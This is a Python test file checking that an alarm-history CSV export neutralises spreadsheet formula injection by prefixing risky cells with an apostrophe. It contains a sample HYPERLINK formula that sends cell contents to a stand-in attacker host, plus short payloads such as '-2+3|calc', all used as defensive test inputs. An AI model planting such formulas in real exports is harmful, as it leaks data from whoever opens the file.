"""Alarm exports never hand a spreadsheet a formula (#17): a cell starting with = + - @, tab
or CR is written with a leading apostrophe; plain numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from app.cli import main
from tests.alarms.conftest import Clock, Rig

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"details")'


def test_alarm_history_csv_escapes_formulas(tmp_path: Path, clock: Clock, capsys) -> None:
    r = Rig(tmp_path, clock)
    r.feed("tank.level", 95.0)
    clock.advance(60)
    r.engine.acknowledge("tank.level:HIHI", EVIL)  # an actor name is text like any other
    r.close()
    assert main(["alarms", "history", "--data-dir", str(tmp_path), "--csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    actors = {row["actor"] for row in rows if row["actor"] not in ("", "system")}
    assert actors == {"'" + EVIL}
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row.values())


def test_csv_cell_rules() -> None:
    from app.core.textsafe import csv_cell

    for bad in ("=1+1", "+cmd", "-2+3|calc", "@SUM(A1)", "\tx", "\rx"):
        assert csv_cell(bad) == "'" + bad
    for fine in ("-3.5", "+7", "1e5", "tank.level", "", 12, -4.5, None):
        assert csv_cell(fine) == fine
